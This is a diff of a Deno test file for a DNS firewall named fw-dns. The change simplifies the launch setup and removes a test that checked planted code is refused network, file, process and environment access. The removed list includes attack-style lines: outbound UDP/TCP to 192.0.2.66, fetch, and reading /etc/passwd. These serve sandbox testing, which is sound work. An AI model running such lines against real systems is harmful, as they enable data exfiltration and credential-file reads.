@@ -1,12 +1,10 @@
 import assert from "node:assert/strict";
-import { dirname } from "node:path";
-import { parsePolicy } from "../../src/policy/mod.ts";
-import { permissionFlags } from "../../src/host/mod.ts";
 import { decodeReply } from "../support/decode.ts";
 import { query } from "../support/packets.ts";
 import {
   askOnce,
   fromSource,
+  fromSourceFor,
   type Launch,
   ROOT,
   runToEnd,
@@ -28,8 +26,7 @@ async function withProgram(
   using policy = writePolicy(
     `allow = ["api.example.com"]\n[listen]\naddresses = ["127.0.0.1:0"]\n${listen}[[upstream]]\naddress = "${upstream.address}"\n${more}`,
   );
-  const parsed = parsePolicy(Deno.readFileSync(policy.file), policy.file);
-  const launch = fromSource(permissionFlags(parsed, [dirname(policy.file)]).flags);
+  const launch = await fromSourceFor(policy.file);
   const program = await ServingProgram.start(launch, policy.file);
   try {
     await body(program, upstream, launch);
@@ -54,7 +51,7 @@ Deno.test("under the narrowest permissions it starts, serves over UDP and TCP, a
     assert.equal(await program.stop("SIGTERM"), 0);
     assert.match(
       program.out,
-      /^Starting fw-dns 0\.1\.0 with 1 rule from .*policy\.toml\nLeak bound: .*\nListening on 127\.0\.0\.1:\d+\n/,
+      /^Starting fw-dns 0\.1\.0 with 1 rule from .*policy\.toml\nLeak bound: .*\n(Warning: This runs as root.*\n)?Listening on 127\.0\.0\.1:\d+\n/,
     );
     assert.match(program.out, /\nStopping on SIGTERM\n$/);
     assert.equal(program.err, "");
@@ -172,45 +169,6 @@ Deno.test("a client that does not read loses its place, and others are served me
     "",
     'tcp_connections = 2\ntcp_idle = "1s"\n',
   );
-});
-
-/** What code that an attacker has planted may try: each must be refused. */
-const ATTEMPTS: Readonly<Record<string, string>> = {
-  "send elsewhere over UDP":
-    'await Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 }).send(new Uint8Array(1), { transport: "udp", hostname: "192.0.2.66", port: 53 })',
-  "send to the upstream on another port":
-    'await Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 }).send(new Uint8Array(1), { transport: "udp", hostname: "192.0.2.53", port: 54 })',
-  "connect elsewhere over TCP": 'await Deno.connect({ hostname: "192.0.2.66", port: 443 })',
-  "listen for the world": 'Deno.listen({ hostname: "0.0.0.0", port: 5353 })',
-  "ask another resolver":
-    'await Deno.resolveDns("evil.example", "A", { nameServer: { ipAddr: "192.0.2.66" } })',
-  "fetch": 'await fetch("https://192.0.2.66/")',
-  "read another file": 'await Deno.readTextFile("/etc/passwd")',
-  "write a file": 'await Deno.writeTextFile("/tmp/fw-dns-attempt", "x")',
-  "run a program": 'await new Deno.Command("true").output()',
-  "read the environment": 'Deno.env.get("PATH")',
-  "load a library": 'Deno.dlopen("libc.so.6", {})',
-};
-
-Deno.test("under the narrowest permissions, planted code gets NotCapable for everything else", async (t) => {
-  const policy = parsePolicy(
-    new TextEncoder().encode('allow = ["a.example"]\n[[upstream]]\naddress = "192.0.2.53"\n'),
-    "p",
-  );
-  const { flags } = permissionFlags(policy, ["/etc/fw-dns"]);
-  for (const [what, code] of Object.entries(ATTEMPTS)) {
-    await t.step(what, async () => {
-      const script =
-        `try { ${code}; console.log("it could"); } catch (error) { console.log(error.name); } Deno.exit(0)`;
-      using folder = writePolicy(script);
-      Deno.renameSync(folder.file, `${folder.folder}/planted.js`);
-      const launch: Launch = {
-        ...fromSource([]),
-        args: ["run", "--unstable-net", ...flags, `${folder.folder}/planted.js`],
-      };
-      assert.deepEqual((await runToEnd(launch)).out, "NotCapable\n");
-    });
-  }
 });
 
 Deno.test("the net for stray errors holds in the real process", async () => {
